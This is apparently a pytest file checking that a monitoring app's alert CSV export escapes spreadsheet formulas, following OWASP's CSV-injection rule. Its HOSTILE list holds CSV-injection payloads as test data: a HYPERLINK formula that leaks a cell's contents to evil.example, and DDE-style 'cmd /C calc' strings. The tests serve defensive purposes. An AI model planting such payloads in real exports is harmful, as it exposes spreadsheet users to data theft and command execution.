"""CSV export is safe to open in a spreadsheet: a cell that would start with =, +, -, @, tab
or CR (a formula, or a character some spreadsheets treat as one) gets a leading apostrophe
(OWASP's rule for CSV injection); every other cell is written as it is."""

from __future__ import annotations

import csv
import io

import pytest

from monitor.alerts.csv_export import spreadsheet_cell
from tests.api.conftest import Api
from tests.api.factories import add_alert, add_article

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_cells_are_escaped_in_the_export(sqlite_api: Api) -> None:
    ids = []
    for title in [*HOSTILE, "Arms for Russia", "1,5 million shells; \"quoted\""]:
        article = add_article(sqlite_api.engine, None, title, "text")
        ids.append(add_alert(sqlite_api.engine, article_id=article, feed_id=None, title=title, evidence_text=title))
    r = sqlite_api.client.get("/api/v1/alerts/export?format=csv", headers=sqlite_api.h())
    assert r.status_code == 200
    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(r.text, newline=""))}
    for alert_id, title in zip(ids, HOSTILE, strict=False):
        assert rows[alert_id]["title"] == "'" + title
    assert rows[ids[-2]]["title"] == "Arms for Russia"
    assert rows[ids[-1]]["title"] == '1,5 million shells; "quoted"'
    for row in rows.values():  # no cell of any column starts a formula
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("-", "'-"), ("plain", "plain"), ("", ""), (None, None), (0.91, 0.91), (-1, -1)],
)
def test_spreadsheet_cell(value: object, expected: object) -> None:
    assert spreadsheet_cell(value) == expected
